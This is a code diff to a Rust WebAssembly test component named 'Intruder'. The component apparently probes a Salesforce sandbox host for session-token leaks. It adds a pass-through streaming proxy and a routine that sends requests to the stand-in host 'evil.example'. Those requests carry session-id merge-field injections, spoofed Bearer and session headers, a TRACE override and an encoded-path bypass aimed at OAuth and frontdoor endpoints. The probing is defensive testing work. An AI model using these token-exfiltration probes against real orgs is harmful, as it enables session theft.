@@ -8,7 +8,7 @@
 //! | `hog` | takes memory until it is stopped |
 //! | `streams N` | opens N streams, and keeps them |
 //!
-//! Anything else answers an empty object.
+//! Anything else answers an empty object. Requests with streams are passed on as they are.
 
 mod bindings {
     #![expect(unsafe_code, reason = "generated code")]
@@ -22,12 +22,14 @@ mod bindings {
                 import sfbox:client/query@0.2.0;
                 import sfbox:client/session@0.2.0;
                 import sfbox:client/rest@0.2.0;
+                import sfbox:client/rest-streams@0.2.0;
                 import wasi:http/types@0.3.0;
 
                 export sfbox:client/types@0.2.0;
                 export sfbox:client/query@0.2.0;
                 export sfbox:client/session@0.2.0;
                 export sfbox:client/rest@0.2.0;
+                export sfbox:client/rest-streams@0.2.0;
             }
         ",
         generate_all,
@@ -41,7 +43,8 @@ use std::fmt::Debug;
 
 use bindings::exports::sfbox::client as exports;
 use bindings::sfbox::client as sfbox;
-use bindings::wit_stream;
+use bindings::wasi::http::types as wasi_http;
+use bindings::{wit_future, wit_stream};
 use exports::query::{Page, QueryOptions};
 use exports::rest::{Request, Response, RestOptions};
 use exports::session::SessionStatus;
@@ -85,6 +88,23 @@ impl exports::session::Guest for Intruder {
 impl exports::rest::Guest for Intruder {
     async fn send(_: String, _: Request, _: RestOptions) -> Result<Response, Error> {
         Err(Error::SessionChanged)
+    }
+}
+
+/// A proxy, which is honest.
+impl exports::rest_streams::Guest for Intruder {
+    async fn send(
+        org: String,
+        request: wasi_http::Request,
+        options: exports::rest_streams::StreamOptions,
+    ) -> Result<wasi_http::Response, Error> {
+        let options = sfbox::rest_streams::StreamOptions {
+            timeout_ms: options.timeout_ms,
+            idle_ms: options.idle_ms,
+            repeatable: options.repeatable,
+        };
+        let answered = sfbox::rest_streams::send(org, request, options).await;
+        answered.map_err(|_| Error::SessionChanged)
     }
 }
 
@@ -155,6 +175,7 @@ async fn pry(org: &str) -> String {
                 learn(&mut learned, "query#query-more", &more);
             }
             pry_at_rest(&mut learned, name, call).await;
+            pry_at_streams(&mut learned, name, call.timeout_ms).await;
             let options = || call.clone();
             let status = sfbox::session::status(name.to_owned(), options()).await;
             learn(&mut learned, "session#status", &status);
@@ -223,6 +244,99 @@ async fn pry_at_rest(learned: &mut String, org: &str, call: &sfbox::types::Optio
             }
         }
     }
+}
+
+/// Requests whose answers would tell the token if any did, with bodies that are read whole
+/// and bodies that are passed on, and what must not pass.
+async fn pry_at_streams(learned: &mut String, org: &str, timeout_ms: Option<u32>) {
+    let paths = [
+        "/services/data/v66.0/limits",
+        "/services/apexrest/echo?header=x-echo:%20{!$Api.Session_Id}",
+        "/services/apexrest/echo",
+        "/services/oauth2/userinfo",
+        "/services/oauth2/token",
+        "/secur/frontdoor.jsp",
+        "/services/%6fauth2/userinfo",
+    ];
+    let headers = [
+        ("accept", "*/*"),
+        ("accept-encoding", "gzip"),
+        ("authorization", "Bearer mine"),
+        ("x-sfdc-session", "mine"),
+        ("x-http-method-override", "TRACE"),
+        ("x-sfbox-caller", "mine"),
+    ];
+    for path in paths {
+        for header in headers {
+            for (method, body) in [
+                (wasi_http::Method::Get, None),
+                (wasi_http::Method::Post, Some("{!$Api.Session_Id}")),
+                (wasi_http::Method::Trace, None),
+            ] {
+                let options = sfbox::rest_streams::StreamOptions {
+                    timeout_ms,
+                    idle_ms: None,
+                    repeatable: false,
+                };
+                let request = request(method, path, header, body);
+                let answered = sfbox::rest_streams::send(org.to_owned(), request, options).await;
+                let answered = match answered {
+                    Ok(response) => Ok(told(response).await),
+                    Err(error) => Err(error),
+                };
+                learn(learned, "rest-streams#send", &answered);
+            }
+        }
+    }
+}
+
+/// A request to a host of our own choice, whose body says nothing of its length.
+fn request(
+    method: wasi_http::Method,
+    path: &str,
+    (name, value): (&str, &str),
+    body: Option<&'static str>,
+) -> wasi_http::Request {
+    let headers = [(name.to_owned(), value.as_bytes().to_vec())];
+    let headers = wasi_http::Fields::from_list(&headers).expect("they are headers");
+    let (trailers, no_trailers) = wit_future::new(|| Ok(None));
+    let contents = body.map(|body| {
+        let (mut writer, contents) = wit_stream::new();
+        wit_bindgen::spawn_local(async move {
+            writer.write_all(body.as_bytes().to_vec()).await;
+            drop(writer);
+            drop(trailers);
+        });
+        contents
+    });
+    let (request, _) = wasi_http::Request::new(headers, contents, no_trailers, None);
+    request.set_method(&method).expect("it is a method");
+    request
+        .set_authority(Some("evil.example"))
+        .expect("it is a host");
+    request
+        .set_path_with_query(Some(path))
+        .expect("it is a path");
+    request
+}
+
+/// What a response tells, as text.
+async fn told(response: wasi_http::Response) -> (u16, String, String) {
+    let status = response.get_status_code();
+    let headers = response.get_headers().copy_all();
+    let headers = headers
+        .into_iter()
+        .map(|(name, value)| format!("{name}: {}", String::from_utf8_lossy(&value)));
+    let headers: Vec<String> = headers.collect();
+    let (processed, res) = wit_future::new(|| Ok(()));
+    drop(processed);
+    let (body, _trailers) = wasi_http::Response::consume_body(response, res);
+    let body = body.collect().await;
+    (
+        status,
+        headers.join("; "),
+        String::from_utf8_lossy(&body).into_owned(),
+    )
 }
 
 fn query_options(call: &sfbox::types::Options, rows: Rows) -> sfbox::query::QueryOptions {
